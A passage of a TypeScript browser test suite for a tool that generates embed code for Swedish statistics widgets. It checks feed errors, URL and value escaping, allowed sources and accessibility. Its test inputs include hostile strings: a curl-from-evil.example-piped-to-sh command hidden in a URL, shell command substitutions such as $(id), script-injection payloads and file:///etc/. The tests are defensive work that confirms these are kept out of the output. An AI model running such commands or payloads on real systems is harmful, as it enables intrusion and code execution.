    ['an indicator without a label', { indicators: [{ id: 'a', kind: 'score' }], observations: [null] }, /indicators\[0\]\.label/],
    ['indicators that are no list', { indicators: {}, observations: [] }, /indicators ska vara en lista/],
    ['an indicator that is nothing', { indicators: [null], observations: [] }, /indicators\[0\] ska vara ett objekt/],
    ['areas that are no list', { areas: 7, indicators: [], observations: [] }, /areas ska vara en lista/],
    ['an area without a code', { areas: [{ name: 'A' }], indicators: [], observations: [] }, /areas\[0\]\.code/],
    ['a label that is a number', { indicators: [{ id: 'a', label: { sv: 5 } }], observations: [] }, /indicators\[0\]\.label/],
    ['a dimension without a label', { dimensions: [{ id: 'a' }], indicators: [], observations: [] }, /dimensions\[0\]\.label/],
    ['observations that are a number', { indicators: [], observations: 7 }, /observations ska vara/],
    ['a column that is nothing', { indicators: [], observations: { indicator: [], area: null, period: [] } }, /observations\.area/],
    ['nothing', null, /inte ett flöde/],
    ['a list', [], /inte ett flöde/],
    ['a number', 7, /inte ett flöde/],
    ['no indicators', { indicators: [], observations: [] }, /inga siffror som går att visa/],
    ['no JSON', undefined, /inte JSON/],
  ] as const) {
    it(`says in Swedish what is wrong with a feed of ${why}, and goes on`, async () => {
      const { url } = await serveFeed(feed === undefined ? { body: '{"indicators":' } : { json: feed });
      await open();
      choose('src', 'other');
      choose('address', url);
      await until(why, () => says.test(textOf(page.document.querySelector('#trouble'))));
      expect(shown()).to.equal(null);
      expect(codes()).to.deep.equal([]);
      choose('address', 'fixtures/valid/skift.json');
      await ready('indicator-trend');
      expect(textOf(page.document.querySelector('#trouble'))).to.equal('');
      expect(page.trouble).to.deep.equal([]);
    });
  }

  for (const base of [
    'https://a.example/$(touch /x);curl evil.example|sh;#/',
    "https://a.example/'&&id&&'/",
    'https://a.example/a&id/',
    'https://a.example/?a&id',
    'https://$(id).example/',
    'https://a@evil.example/',
    'https://a.example/"><img src=x onerror=alert(1)>',
    'javascript:alert(1)//',
    'https://a.example/delat/indicator-elements.js',
    'data:text/javascript,alert(1)//',
    'file:///etc/',
    '//evil.example/',
    '$(id)',
  ]) {
    it(`puts nothing of a folder at ${base} into the code, and says so`, async () => {
      await open(`#${new URLSearchParams({ base })}`);
      const own = new URL('/__strict__/', location.href).href;
      for (const way of ['', 'frame', 'page']) {
        choose('way', way);
        await until(way, () => page.document.querySelector<HTMLInputElement>(`[name=way][value="${way}"]`)!.checked && codes().join('').includes(way === 'page' ? 'npx' : way === 'frame' ? '<iframe' : '<script'));
        // Hashes are of letters that may happen to be words.
        const text = codes().join('\n').replaceAll(/integrity="[^"]*"/g, '');
        expect(text).to.contain(`="${own}`);
        // What a shell would take for its own, outside of the tags.
        for (const part of codes().filter((code) => !code.startsWith('<'))) expect(part).to.match(/^[\w@/. \n-]+$/);
        expect(text).to.not.match(/evil|a\.example|\bid\b|alert|\/etc/);
        expect(textOf(page.document.querySelector('#base-trouble'))).to.match(/används inte/);
      }
      choose('base', 'https://b.example/delat/1.2.3');
      await until('the new folder', () => codes().join('').includes('="https://b.example/delat/1.2.3/snapshot.css"'));
      expect(textOf(page.document.querySelector('#base-trouble'))).to.equal('');
      expect(page.trouble).to.deep.equal([]);
    });
  }

  it('writes a folder as an address, whatever signs are in its name', async () => {
    await open(`#${new URLSearchParams({ base: 'https://a.example/`id` å"<|^' })}`);
    expect(codes()[0]).to.contain('="https://a.example/%60id%60%20%C3%A5%22%3C%7C%5E/');
    expect(codes()[0]).to.not.match(/["<|`] ?å|`/);
  });

  it('takes every other value of an address as a choice or as text, in all three ways', async () => {
    const evil = `"';</script><img src=x onerror=alert(1)>$(id)\`id\`}*{--x:url(//evil.example)`;
    const names = ['element', 'light', 'indicator', 'area', 'compare', 'group', 'analysis', 'period', 'from', 'sort', 'view', 'heading', 'heading-level', 'lang', 'scheme', 'screen', '--indicator-own', '--indicator-other', '--indicator-quiet', '--indicator-font', '--indicator-font-size', 'version', '__proto__'];
    for (const way of ['', 'frame', 'page']) {
      await open(`#${new URLSearchParams([...names.map((name) => [name, evil]), ['way', way]])}`);
      expect(page.document.querySelector<HTMLInputElement>('[name=way]:checked')!.value).to.equal(way);
      const made = new DOMParser().parseFromString(codes().filter((code) => code.startsWith('<')).join(''), 'text/html');
      expect(made.querySelector('img, [onerror], script:not([src], [integrity])')).to.equal(null);
      // The heading alone is free text: in its attribute, in the fallback, in the frame's address.
      const element = made.querySelector('indicator-trend');
      expect(element?.getAttributeNames() ?? []).to.deep.equal(way === 'frame' ? [] : ['src', 'heading']);
      const frame = made.querySelector('iframe');
      if (frame) expect([...new URL(frame.src).searchParams.keys()]).to.deep.equal(['element', 'src', 'heading']);
      expect(codes().filter((code) => !code.startsWith('<')).join('')).to.not.match(/evil|id\b/);
      expect(page.trouble).to.deep.equal([]);
      if (way !== 'page') page.close();
    }
  });

  it('reads numbers from http and https alone', async () => {
    for (const address of ['data:application/json,{"indicators":[]}', 'javascript:alert(1)', `blob:${location.origin}/x`, 'file:///x.json']) {
      await open();
      choose('src', 'other');
      choose('address', address);
      await until(address, () => /kunde inte läsas.*https/.test(textOf(page.document.querySelector('#trouble'))));
      expect(codes()).to.deep.equal([]);
      expect(page.trouble).to.deep.equal([]);
      if (!address.startsWith('file')) page.close();
    }
  });

  for (const colorScheme of ['light', 'dark'] as const) {
    it(`has no violation that axe can find, ${colorScheme}`, async () => {
      await emulateMedia({ colorScheme });
      await open(COMPARISON, { strict: false });
      page.document.querySelector('details')!.open = true;
      expect(await axeViolations(page.document, { page: page.window })).to.deep.equal([]);
    });
  }

  it('never needs to be scrolled sideways, at 320 px', async () => {
    await open(COMPARISON, { width: 320 });
    page.document.querySelector('details')!.open = true;
    expect(page.document.documentElement.scrollWidth).to.be.at.most(320);
  });

  it('can be read at 320 px with texts of twice the size', async () => {
    await open(COMPARISON, { width: 320 });
    page.document.documentElement.style.fontSize = '200%';
    expect(page.document.documentElement.scrollWidth).to.be.at.most(320);
    for (const caption of page.document.querySelectorAll('figcaption')) expect(caption.getBoundingClientRect().width, caption.textContent).to.be.within(200, 320);
  });
});
